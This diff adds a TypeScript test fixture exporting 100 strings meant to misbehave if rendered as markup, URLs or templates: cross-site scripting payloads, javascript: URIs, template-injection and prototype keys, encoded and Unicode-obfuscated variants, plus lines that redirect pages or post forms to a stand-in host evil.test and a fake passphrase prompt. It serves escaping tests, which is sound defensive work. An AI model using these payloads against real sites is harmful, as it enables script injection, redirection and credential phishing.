@@ -1,0 +1,61 @@
+/** 100 texts that would do something if anything took them for markup, an address or a template. */
+
+const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onpageshow', 'onanimationend', 'onpointerenter']
+const TAGS = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'input autofocus', 'iframe', 'math', 'marquee', 'audio src=x']
+
+const fixed = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg onload=alert(1)>",
+  '</p></div></main><script>alert(1)</script>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>">',
+  '<object data="javascript:alert(1)">',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">here</a>',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  '<base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '<link rel=stylesheet href="https://evil.test/x.css">',
+  '<style>*{display:none}</style>',
+  '<form action="https://evil.test/"><input name=q><button>go</button></form>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><x onload=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '${alert(1)}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '#{alert(1)}',
+  '`${alert(1)}`',
+  '__proto__',
+  'constructor',
+  'toString',
+  '[object Object]',
+  'null',
+  'https://evil.test/"onmouseover="alert(1)',
+  'https://evil.test/<script>alert(1)</script>',
+  "https://evil.test/'><img src=x onerror=alert(1)>",
+  'http://evil.test/#code=AAAA',
+  '\u202ehttps://evil.test/exe.gpj',
+  '<a\u0000href="javascript:alert(1)">x</a>',
+  '<ſcript>alert(1)</ſcript>',
+  '＜script＞alert(1)＜/script＞',
+  '<div style="position:fixed;inset:0;background:red">',
+  '<dialog open>type your passphrase</dialog>',
+]
+
+const crossed = TAGS.flatMap((tag, i) => [0, 1, 2, 3, 4].map((step) => `<${tag} ${HANDLERS[(i + step * 2) % HANDLERS.length]}=alert(${i}${step})>`))
+
+export const payloads: readonly string[] = [...fixed, ...crossed]
